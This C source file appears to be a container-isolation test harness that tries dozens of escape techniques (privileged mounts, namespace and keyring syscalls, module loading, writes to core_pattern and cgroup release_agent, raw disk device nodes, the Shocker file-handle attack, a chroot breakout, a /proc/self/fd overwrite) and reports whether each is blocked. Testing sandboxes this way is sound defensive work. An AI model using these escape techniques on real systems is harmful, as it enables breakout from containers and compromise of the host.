/* Tries to get out of a container. Each attack prints the error that stopped it, or "SUCCEEDED". Static, so that it runs in any image. */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/keyctl.h>
#include <sched.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/io.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/sysmacros.h>
#include <sys/time.h>
#include <sys/timex.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <time.h>
#include <unistd.h>

static int failures(const char *name, long result) {
    printf("%s %s\n", name, result < 0 ? strerrorname_np(errno) : "SUCCEEDED");
    return result >= 0;
}

static long write_file(const char *path, const char *text) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) return -1;
    long result = write(fd, text, strlen(text));
    int error = errno;
    close(fd);
    errno = error;
    return result;
}

/* A process of its own: what it changes of itself doesn't show in the next attack. */
#define APART(expression) ({ \
    int pipe_[2]; pipe2(pipe_, O_CLOEXEC); pid_t child_ = fork(); \
    if (child_ == 0) { long r_ = (expression); long e_[2] = { r_, errno }; write(pipe_[1], e_, sizeof e_); _exit(0); } \
    close(pipe_[1]); long e_[2] = { -1, ECONNABORTED }; read(pipe_[0], e_, sizeof e_); close(pipe_[0]); waitpid(child_, 0, 0); errno = e_[1]; e_[0]; })

static long int80(long number, long a, long b, long c) {
#ifdef __x86_64__
    long result;
    __asm__ volatile("int $0x80" : "=a"(result) : "a"(number), "b"(a), "c"(b), "d"(c) : "memory", "r8", "r9", "r10", "r11");
    if (result < 0 && result > -4096) { errno = -result; return -1; }
    return result;
#else
    errno = ENOSYS; return -1;
#endif
}

static long kernel_calls(void) {
    struct timeval tv = { 1, 0 };
    struct timespec ts = { 1, 0 };
    struct timex tx = { .modes = ADJ_OFFSET };
    char zero[256] = { 0 };
    struct iovec local = { zero, 16 }, remote = { (void *)0x400000, 16 };
    failures("mount", mount("none", "/tmp", "tmpfs", 0, 0));
    failures("remount-proc-sys", mount("none", "/proc/sys", 0, MS_REMOUNT | MS_BIND, 0));
    failures("remount-root", mount("none", "/", 0, MS_REMOUNT | MS_BIND, 0));
    failures("bind", mount("/proc", "/tmp", 0, MS_BIND, 0));
    failures("propagation", mount("none", "/", 0, MS_REC | MS_SHARED, 0));
    failures("umount-mask", umount2("/proc/kcore", MNT_DETACH));
    failures("umount-sys", umount2("/sys", MNT_DETACH));
    failures("fsopen", syscall(430, "proc", 0));
    failures("open_tree", syscall(428, AT_FDCWD, "/proc/sys", 1));
    failures("move_mount", syscall(429, AT_FDCWD, "/proc", AT_FDCWD, "/tmp", 0));
    failures("mount_setattr", syscall(442, AT_FDCWD, "/proc/sys", 0, zero, 32));
    failures("pivot_root", syscall(SYS_pivot_root, "/", "/tmp"));
    failures("unshare-user", APART(unshare(CLONE_NEWUSER)));
    failures("unshare-mount", APART(unshare(CLONE_NEWNS)));
    failures("unshare-cgroup", APART(unshare(CLONE_NEWCGROUP)));
    failures("clone-user", syscall(SYS_clone, CLONE_NEWUSER | SIGCHLD, 0, 0, 0, 0));
    struct { unsigned long long flags, rest[10]; } args = { .flags = CLONE_NEWUSER, .rest = { 0 } };
    failures("clone3-user", syscall(435, &args, sizeof args));
    failures("setns", syscall(SYS_setns, open("/proc/1/ns/mnt", O_RDONLY), 0));
    failures("add_key", syscall(SYS_add_key, "user", "x", "y", 1L, -1L));
    failures("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, -4L, 1L));
    failures("request_key", syscall(SYS_request_key, "user", "x", 0, 0));
    failures("bpf", syscall(SYS_bpf, 0, zero, 72));
    failures("perf_event_open", syscall(SYS_perf_event_open, zero, 0, -1, -1, 0));
    failures("userfaultfd", syscall(SYS_userfaultfd, 0));
    failures("io_uring_setup", syscall(425, 8, zero));
    failures("kexec_load", syscall(SYS_kexec_load, 0, 0, 0, 0));
    failures("init_module", syscall(SYS_init_module, zero, 16, ""));
    failures("finit_module", syscall(SYS_finit_module, 0, "", 0));
    failures("delete_module", syscall(SYS_delete_module, "loop", O_NONBLOCK));
    failures("settimeofday", settimeofday(&tv, 0));
    failures("clock_settime", clock_settime(CLOCK_REALTIME, &ts));
    failures("adjtimex", adjtimex(&tx));
    failures("stime", int80(25, (long)0, 0, 0));
#ifdef __x86_64__
    failures("iopl", iopl(3));
    failures("ioperm", ioperm(0x70, 2, 1));
#endif
    failures("swapon", syscall(SYS_swapon, "/tmp", 0));
    failures("acct", syscall(SYS_acct, "/tmp"));
    failures("reboot", syscall(SYS_reboot, 0xfee1dead, 672274793, 0, 0));
    failures("syslog", syscall(SYS_syslog, 3, zero, 16));
    failures("quotactl", syscall(SYS_quotactl, 0x800002 << 8, "/dev/none", 0, 0));
    failures("sethostname", sethostname("evil", 4));
    failures("open_by_handle_at", syscall(SYS_open_by_handle_at, open("/", O_RDONLY), zero, O_RDONLY));
    failures("process_vm_readv-1", syscall(SYS_process_vm_readv, 999999, &local, 1, &remote, 1, 0));
    failures("vsock", socket(AF_VSOCK, SOCK_STREAM, 0));
    failures("i386-mount", int80(21, (long)zero, (long)zero, (long)zero));
    failures("x32-mount", syscall(0x40000000 | 165, zero, zero, zero, 0, 0));
    failures("x32-getpid", syscall(0x40000000 | 39));
    return 0;
}

static long kernel_files(void) {
    static const char *const files[] = {
        "/proc/sys/kernel/core_pattern", "/proc/sys/kernel/modprobe", "/proc/sys/kernel/hotplug", "/proc/sys/vm/panic_on_oom", "/proc/sys/fs/binfmt_misc/register",
        "/proc/sysrq-trigger", "/proc/irq/0/smp_affinity", "/proc/self/../sys/kernel/core_pattern", "/sys/kernel/uevent_helper", "/sys/fs/cgroup/release_agent",
        "/sys/fs/cgroup/memory/release_agent", "/sys/fs/cgroup/memory/notify_on_release", "/sys/fs/cgroup/memory/memory.limit_in_bytes", "/sys/fs/cgroup/cgroup.procs",
        "/sys/fs/cgroup/pids/pids.max", "/sys/fs/cgroup/devices/devices.allow", "/sys/kernel/mm/transparent_hugepage/enabled", "/sys/power/state", "/dev/mem", "/dev/kmsg", "/dev/port",
    };
    for (unsigned i = 0; i < sizeof files / sizeof *files; i++) failures(files[i], write_file(files[i], "x"));
    return 0;
}

/* The host's disk by number: making the node is allowed, using it isn't. */
static long disk(unsigned major_, unsigned minor_) {
    mknod("/tmp/disk", S_IFBLK | 0600, makedev(major_, minor_));
    failures("disk-read", open("/tmp/disk", O_RDONLY));
    failures("disk-write", open("/tmp/disk", O_WRONLY));
    mknod("/tmp/mem", S_IFCHR | 0600, makedev(1, 1));
    failures("mem", open("/tmp/mem", O_RDONLY));
    mknod("/tmp/kmsg", S_IFCHR | 0600, makedev(1, 11));
    failures("kmsg", open("/tmp/kmsg", O_RDONLY));
    mknod("/tmp/loop", S_IFCHR | 0600, makedev(10, 237));
    failures("loop-control", open("/tmp/loop", O_RDWR));
    mknod("/tmp/fuse", S_IFCHR | 0600, makedev(10, 229));
    failures("fuse", open("/tmp/fuse", O_RDWR));
    mknod("/dev/disk", S_IFBLK | 0600, makedev(major_, minor_));
    failures("disk-in-dev", open("/dev/disk", O_RDONLY));
    return 0;
}

/* Shocker: handles of the file system that the root's lower layers or a volume stand on. */
static long shocker(const char *file) {
    struct { struct file_handle handle; unsigned char bytes[128]; } at = { .handle = { .handle_bytes = 128 } };
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, file, &at.handle, &mount_id, 0) < 0) return failures("name_to_handle_at", -1);
    int directory = open(file, O_RDONLY);
    failures("shocker", open_by_handle_at(directory, &at.handle, O_RDONLY));
    return 0;
}

/* The classic: a directory held open across a chroot, then upwards. It must end at the container's own root. */
static long chroot_escape(void) {
    struct stat before, after;
    stat("/", &before);
    mkdir("/tmp/jail", 0755);
    int held = open("/", O_RDONLY | O_DIRECTORY);
    if (chroot("/tmp/jail") < 0) return failures("chroot", -1);
    fchdir(held);
    for (int i = 0; i < 64; i++) chdir("..");
    chroot(".");
    stat("/", &after);
    printf("chroot %s\n", before.st_dev == after.st_dev && before.st_ino == after.st_ino ? "same-root" : "SUCCEEDED");
    return 0;
}

/* Opens what a descriptor refers to for writing, again and again, until it works or the attempts are used up. */
static long overwrite(int fd) {
    char path[64];
    FILE *result = fopen("/result", "w");
    if (result) stdout = result;
    setvbuf(stdout, 0, _IONBF, 0);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    int error = 0;
    for (int i = 0; i < 200; i++) {
        int target = open(path, O_WRONLY);
        if (target >= 0) {
            pwrite(target, "overwritten", 11, 0);
            printf("overwrite SUCCEEDED\n");
            return 0;
        }
        error = errno;
        usleep(10000);
    }
    printf("overwrite %s\n", strerrorname_np(error));
    return 0;
}

int main(int argc, char **argv) {
    setvbuf(stdout, 0, _IONBF, 0);
    if (argc < 2) return 2;
    if (!strcmp(argv[1], "calls")) return kernel_calls();
    if (!strcmp(argv[1], "files")) return kernel_files();
    if (!strcmp(argv[1], "disk")) return disk(atoi(argv[2]), atoi(argv[3]));
    if (!strcmp(argv[1], "shocker")) return shocker(argv[2]);
    if (!strcmp(argv[1], "chroot")) return chroot_escape();
    if (!strcmp(argv[1], "overwrite")) return overwrite(atoi(argv[2]));
    if (!strcmp(argv[1], "ids")) { printf("%d %d\n", getuid(), geteuid()); return 0; }
    if (!strcmp(argv[1], "ptrace")) { failures("ptrace", ptrace(PTRACE_ATTACH, atoi(argv[2]), 0, 0)); return 0; }
    return 2;
}
